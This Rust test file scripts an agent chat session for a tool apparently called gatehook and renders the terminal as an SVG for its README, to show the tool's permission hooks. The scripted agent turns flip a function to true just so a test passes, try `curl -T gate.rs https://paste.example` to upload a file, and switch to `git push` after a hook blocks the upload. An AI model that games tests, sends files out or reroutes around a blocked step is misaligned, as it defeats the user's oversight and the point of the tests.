//! The picture of the terminal in the README: a session as it is seen, as an SVG.

use std::fmt::Write as _;
use std::path::Path;

use serde_json::json;
use vt100::{Cell, Color, Screen};

use super::terminal::Terminal;
use super::{chat, home};

/// Pixels of one cell.
const WIDTH: u32 = 9;
const HEIGHT: u32 = 19;

/// Around the cells.
const MARGIN: u32 = 14;

const PAPER: &str = "#14161b";
const INK: &str = "#d8dae0";

/// The eight colours of a terminal, and the brighter ones.
const COLOURS: [&str; 16] = [
    "#3b3f4a", "#f07178", "#9ccf7e", "#e6b673", "#6fa8dc", "#c79bea", "#6cc7c1", "#d8dae0", "#5c6370", "#ff8b92",
    "#b5e895", "#ffcb6b", "#82b1ff", "#ddb3ff", "#89ddd8", "#ffffff",
];

fn colour(colour: Color, default: &'static str) -> &'static str {
    match colour {
        Color::Idx(place) => COLOURS.get(usize::from(place)).copied().unwrap_or(default),
        _ => default,
    }
}

/// What is seen, as an SVG: rows of text, cells of the same look together.
fn svg(screen: &Screen) -> String {
    let (rows, columns) = screen.size();
    let (rows, columns) = (rows.get(), columns.get());
    let (wide, high) = (u32::from(columns) * WIDTH + 2 * MARGIN, u32::from(rows) * HEIGHT + 2 * MARGIN);
    let mut svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{wide}\" height=\"{high}\" viewBox=\"0 0 {wide} {high}\" \
         font-family=\"ui-monospace, 'DejaVu Sans Mono', Menlo, Consolas, monospace\" font-size=\"15\">\n\
         <title>gatehook chat asks whether a tool may run</title>\n\
         <rect width=\"100%\" height=\"100%\" rx=\"8\" fill=\"{PAPER}\"/>\n"
    );
    for row in 0..rows {
        let cells: Vec<&Cell> = (0..columns).filter_map(|column| screen.cell(row, column)).collect();
        let look =
            |cell: &Cell| (cell.fgcolor(), cell.bold(), cell.dim(), cell.italic(), cell.underline(), cell.inverse());
        let mut column = 0;
        for run in cells.chunk_by(|one, other| look(one) == look(other)) {
            let text: String = run
                .iter()
                .filter(|cell| !cell.is_wide_continuation())
                .map(|cell| if cell.has_contents() { cell.contents() } else { " " })
                .collect();
            let first = run[0];
            let (x, y) = (MARGIN + column * WIDTH, MARGIN + u32::from(row) * HEIGHT + 15);
            let length = u32::try_from(run.len()).unwrap() * WIDTH;
            column += u32::try_from(run.len()).unwrap();
            if text.trim().is_empty() && !first.inverse() {
                continue;
            }
            let mut ink = colour(first.fgcolor(), INK);
            if first.inverse() {
                let top = y - 15;
                writeln!(svg, "<rect x=\"{x}\" y=\"{top}\" width=\"{length}\" height=\"{HEIGHT}\" fill=\"{ink}\"/>")
                    .unwrap();
                ink = PAPER;
            }
            let mut style = format!("fill=\"{ink}\"");
            for (is_so, words) in [
                (first.bold(), " font-weight=\"bold\""),
                (first.dim(), " opacity=\"0.6\""),
                (first.italic(), " font-style=\"italic\""),
                (first.underline(), " text-decoration=\"underline\""),
            ] {
                style.push_str(if is_so { words } else { "" });
            }
            let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            writeln!(
                svg,
                "<text x=\"{x}\" y=\"{y}\" textLength=\"{length}\" xml:space=\"preserve\" {style}>{text}</text>"
            )
            .unwrap();
        }
    }
    svg.push_str("</svg>\n");
    svg
}

/// A guard in a few lines: what it looks for in a command, and what it says then.
fn guard(what: &str, says: &str) -> String {
    format!("#!/bin/sh\ngrep -q '{what}' && {says}\nexit 0\n")
}

const GUARDS: &str = "hooks:
  pre_tool_use:
    - matcher: bash
      hooks:
        - { name: no-uploads, type: command, command: sh ~/no-uploads.sh }
        - { name: leaves, type: command, command: sh ~/leaves.sh }
";

/// The session of the picture, up to its question.
fn session() -> Terminal {
    let home = home(&[
        json!({
            "thinking": "The test expects the gate to be open.",
            "text": "The gate never opens. I mend it **and push it**:\n\n\
                     1. `gate.rs` returns the wrong value\n2. nothing else depends on it\n",
            "tool_calls": [
                {"name": "edit", "arguments": {"path": "gate.rs", "old_string": "    false", "new_string": "    true"}},
            ],
        }),
        json!({"tool_calls": [{"name": "bash", "arguments": {"command": "curl -T gate.rs https://paste.example"}}]}),
        json!({
            "text": "Then not by `curl`:",
            "tool_calls": [{"name": "bash", "arguments": {"command": "git push origin main"}}],
        }),
    ]);
    home.file("gate.rs", "fn gate() -> bool {\n    false\n}\n");
    home.file("home/no-uploads.sh", &guard("curl -T", "echo nothing is uploaded from here >&2 && exit 2"));
    let ask = json!({"hook_specific_output": {
        "permission_decision": "ask", "permission_decision_reason": "it leaves this machine",
    }});
    home.file("home/leaves.sh", &guard("git push", &format!("echo '{ask}'")));
    home.file("home/.config/gatehook/gatehook.yaml", GUARDS);
    let mut terminal = Terminal::start(&chat(&home, &["--allow", "edit", "--allow", "bash"]), (84, 30));
    terminal.sees("Ask for something");
    terminal.types("make the tests pass, then push\r");
    terminal.sees("May bash run?");
    terminal.sees("y yes, once");
    terminal
}

#[test]
fn the_picture_in_the_readme_is_what_is_seen() {
    let terminal = session();
    let drawn = svg(terminal.screen());
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/images/chat.svg");
    if std::env::var_os("UPDATE_PICTURE").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &drawn).unwrap();
    }
    let kept = std::fs::read_to_string(&path).unwrap_or_default();
    let help = format!("UPDATE_PICTURE=1 draws {} anew:\n{}", path.display(), terminal.seen());
    assert_eq!(words(&kept), words(&drawn), "{help}");
}

/// What a picture says, without times and folders, which differ from run to run.
fn words(svg: &str) -> Vec<String> {
    let texts = svg.split("</text>").filter_map(|text| text.rsplit_once('>')).map(|(_, text)| text);
    let is_steady = |word: &&str| !word.starts_with(|char: char| char.is_ascii_digit()) && !matches!(*word, "ms" | "s");
    let words = texts.flat_map(str::split_whitespace).filter(is_steady);
    words
        .filter(|word| !word.contains("/tmp") && !word.chars().all(|char| "─⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏".contains(char)))
        .map(str::to_owned)
        .collect()
}
